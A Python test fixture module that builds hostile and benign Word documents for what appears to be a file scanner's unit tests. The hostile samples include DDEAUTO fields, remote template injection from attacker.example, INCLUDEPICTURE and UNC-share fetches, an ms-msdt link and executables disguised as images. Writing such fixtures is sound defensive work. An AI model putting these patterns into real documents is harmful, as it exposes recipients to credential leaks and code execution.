"""Word documents as people make them and as attackers do, by name; made on the spot."""

from tests.unit.files import samples
from tests.unit.files.samples import OUTSIDE, docx, docx_related

UNC = "\\\\attacker.example\\share\\x"


def _field(instruction: str) -> str:
    """A field as Word writes it: its instruction in runs of a few characters."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{_quoted(instruction[at : at + 3])}</w:instrText></w:r>'
        for at in range(0, len(instruction), 3)
    )
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    return f"<w:p>{mark('begin')}{runs}{mark('separate')}<w:r><w:t>1</w:t></w:r>{mark('end')}</w:p>"


def _quoted(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;")


def _with_field(instruction: str) -> bytes:
    return docx(body=_field(instruction))


ACTIVE_FIELDS = {
    "picture fetched": 'INCLUDEPICTURE "http://attacker.example/p.png" \\d',
    "picture from a share": 'INCLUDEPICTURE "\\\\\\\\attacker.example\\\\p.png"',
    "text fetched": 'INCLUDETEXT "http://attacker.example/x.docx"',
    "link": 'LINK Excel.Sheet.12 "http://attacker.example/x.xlsx" R1C1 \\a',
    "database": 'DATABASE \\d "C:\\\\x.mdb" \\s "SELECT 1"',
    "import": 'IMPORT "http://attacker.example/x.wmf"',
    "macro button": "MACROBUTTON AutoOpen [Click here]",
    "dde": 'DDEAUTO "C:\\\\x.exe" "a"',
    "dde, small": "dde excel x",
    "spelt out": "QUOTE 68 68 69",
    "set": 'SET C "x"',
    "embedded": "EMBED Package",
    "goto button": "GOTOBUTTON x y",
    "include": 'INCLUDE "http://attacker.example/x.docx"',
    "link to a file": 'HYPERLINK "file://attacker.example/x"',
    "link to a share": 'HYPERLINK "\\\\\\\\attacker.example\\\\x"',
    "link to a program": 'HYPERLINK "ms-msdt:/id x"',
    "link behind a tip": 'HYPERLINK \\o "https://council.example/" "file:///C:/x.exe"',
    "unknown": "TOMORROW x",
}
"""By what the instruction does."""

_NESTED = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK </w:instrText></w:r>'
    + _field("PAGE").removeprefix("<w:p>").removesuffix("</w:p>")
    + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_IN_RESULT = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>TOC \\h</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + _field("DDE a b").removeprefix("<w:p>")
)
_AFTER_NOTHING = (
    '<w:p><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:instrText>DDE a b</w:instrText></w:r></w:p>'
)
_VML = '<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://attacker.example/p.png"/></v:shape>'
_VML_LINK = '<v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file://attacker.example/x"/>'


def _part(name: str, content: bytes, kind: str, relation: str = "image") -> bytes:
    """A document with one part more, related to it."""
    override = f'<Override PartName="/word/{name}" ContentType="{kind}"/>'
    return docx(
        {
            "[Content_Types].xml": samples.content_types(more=override),
            "word/_rels/document.xml.rels": samples.relationships((relation, name, "")),
            f"word/{name}": content,
        }
    )


def _whole(body: str, more: dict[str, bytes | str] | None = None, kinds: str = "") -> bytes:
    """A document with the parts that a word processor writes beside the text."""
    related = [
        ("styles", "styles.xml", ""),
        ("settings", "settings.xml", ""),
        ("fontTable", "fontTable.xml", ""),
        ("theme", "theme/theme1.xml", ""),
        ("numbering", "numbering.xml", ""),
        ("header", "header1.xml", ""),
        ("footer", "footer1.xml", ""),
        ("footnotes", "footnotes.xml", ""),
        ("image", "media/image1.png", ""),
        ("hyperlink", "https://council.example/a?b=c#d", OUTSIDE),
        ("hyperlink", "mailto:a@council.example?subject=Hello%20there", OUTSIDE),
        ("hyperlink", "www.council.example", OUTSIDE),
    ]
    names = [target for kind, target, mode in related if kind not in {"hyperlink", "image", "footer"}]
    page = f'<w:ftr xmlns:w="{samples.WORD}">{_field("PAGE")}{_field("NUMPAGES")}</w:ftr>'
    return docx(
        {
            "[Content_Types].xml": samples.content_types(
                more='<Default Extension="png" ContentType="image/png"/>' + kinds
            ),
            "_rels/.rels": samples.relationships(
                ("officeDocument", "word/document.xml", ""),
                ("metadata/core-properties", "docProps/core.xml", ""),
                ("extended-properties", "docProps/app.xml", ""),
            ),
            "word/_rels/document.xml.rels": samples.relationships(*related),
            "word/settings.xml": "<w:settings/>".replace("/>", f' xmlns:w="{samples.WORD}"/>'),
            **{f"word/{name}": f'<w:x xmlns:w="{samples.WORD}"/>' for name in names if name != "settings.xml"},
            "word/footer1.xml": page,
            "word/media/image1.png": samples.picture("PNG"),
            "docProps/core.xml": "<a/>",
            "docProps/app.xml": "<a/>",
            **(more or {}),
        },
        body,
    )


def _whole_with_header(body: str) -> bytes:
    return _whole("<w:p/>", {"word/header1.xml": f'<w:hdr xmlns:w="{samples.WORD}">{body}</w:hdr>'})


HOSTILE_DOCX = {
    **{f"field: {name}": _with_field(said) for name, said in ACTIVE_FIELDS.items()},
    "field: simple": docx(body='<w:p><w:fldSimple w:instr="INCLUDETEXT x"/></w:p>'),
    "field: told by another": docx(body=_NESTED),
    "field: in a result": docx(body=_IN_RESULT),
    "field: of no field": docx(body=_AFTER_NOTHING),
    "field: deleted": docx(body="<w:p><w:del><w:r><w:delInstrText>DDE a b</w:delInstrText></w:r></w:del></w:p>"),
    "field: in a header": _whole_with_header(_field("DDE a b")),
    "template fetched": docx_related("attachedTemplate", "https://attacker.example/t.dotm"),
    "template from a share": docx_related("attachedTemplate", UNC),
    "picture fetched": docx_related("image", "https://attacker.example/p.png"),
    "picture of the older drawing": docx(body=_VML),
    "link of the older drawing": docx(body=_VML_LINK),
    "object": docx_related("oleObject", "Normal.xls"),
    "link to a file": docx_related("hyperlink", "file://attacker.example/x"),
    "link to a file on the disk": docx_related("hyperlink", "file:///C:/Windows/x.exe"),
    "link to a share": docx_related("hyperlink", UNC),
    "link to a program": docx_related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "link to a script": docx_related("hyperlink", "javascript:alert(1)"),
    "mail merge": docx_related("mailMergeSource", "file:///C:/x.mdb"),
    "mail merge's query": docx(
        body="<w:mailMerge><w:connectString w:val='x'/><w:query w:val='SELECT 1'/></w:mailMerge>"
    ),
    "chunk": docx_related("aFChunk", "chunk.html", ""),
    "macros": docx({"word/vbaProject.bin": b"macro"}),
    "program that nothing names": docx({"word/media/x.exe": b"MZ\x90\0"}),
    "program that says it is a picture": _part("media/x.png", b"MZ\x90\0", "image/png"),
    "program that something names": _part("x.exe", b"MZ\x90\0", "application/x-msdownload"),
    "web page that something names": _part("x.html", b"<script>", "text/html", "x"),
    "packed file that something names": _part("x.zip", samples.zipped({"a": "b"}), "application/zip", "x"),
    "part of no kind": docx({"word/media/x.dat": b"x"}),
    "part that nothing names": docx({"word/stray.xml": "<a/>"}),
}


_CONTENTS = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TOC \\o "1-3" \\h \\z \\u '
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    + (_field('HYPERLINK \\l "_Toc1"') + _field("PAGEREF _Toc1 \\h")).replace("<w:p>", "").replace("</w:p>", "")
    + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_PASSIVE = [
    "REF _Ref1 \\h",
    "SEQ Figure \\* ARABIC",
    'DATE \\@ "dd MMMM yyyy"',
    'STYLEREF "Heading 1"',
    "DOCPROPERTY Title",
    "=SUM(ABOVE)",
    "FORMTEXT",
    "FORMCHECKBOX",
    'HYPERLINK "https://council.example/"',
    'HYPERLINK "mailto:a@council.example" \\o "Write to us"',
    'HYPERLINK "https://council.example/a" \\l "b" \\t "_blank"',
    'IF 1 = 1 "a" "b"',
    "ADDIN ZOTERO_ITEM CSL_CITATION {}",
    "MERGEFIELD Name",
    "FILENAME \\p",
    "page \\* MERGEFORMAT",
    "INDEX \\c 2",
    "XE word",
    "SECTIONPAGES",
    "CREATEDATE",
]
_CUSTOM: dict[str, bytes | str] = {
    "customXml/item1.xml": "<a/>",
    "word/_rels/settings.xml.rels": samples.relationships(
        ("attachedTemplate", "file:///C:\\Users\\Chloe\\AppData\\Roaming\\Microsoft\\Templates\\Report.dotx", OUTSIDE),
        ("customXml", "../customXml/item1.xml", ""),
    ),
}

HONEST_DOCX: dict[str, bytes] = {
    "text alone": docx(),
    "as Word writes it, with contents and links": _whole(_CONTENTS + "".join(_field(said) for said in _PASSIVE)),
    "with a template and custom data": _whole("<w:p/>", _CUSTOM),
    "with a chart": samples.docx_with_chart(samples.workbook()),
    "with fields that have no instruction": docx(body=_field("")),
}


HOSTILE_DOC: dict[str, bytes] = {
    **{
        f"{name}{', wide' if wide else ''}": samples.doc_of(f"Before \x13 {said} \x14result\x15 after", wide=wide)
        for name, said in ACTIVE_FIELDS.items()
        for wide in (False, True)
    },
    "macros": samples.doc(parts=("_VBA_PROJECT",)),
    "program": samples.doc(parts=("\x01Ole10Native",)),
}
HONEST_DOC: dict[str, bytes] = {
    "text alone": samples.doc_of("A report."),
    "contents and links": samples.doc_of(
        '\x13 TOC \\o \x14\x13 HYPERLINK \\l "_Toc1" \x14One\x13 PAGEREF _Toc1 \\h \x141\x15\x15\x15'
        + "".join(f"\x13 {said} \x14x\x15" for said in _PASSIVE)
    ),
    "wide": samples.doc_of("\x13 PAGE \x14" + "1\x15 \u2019", wide=True),
}
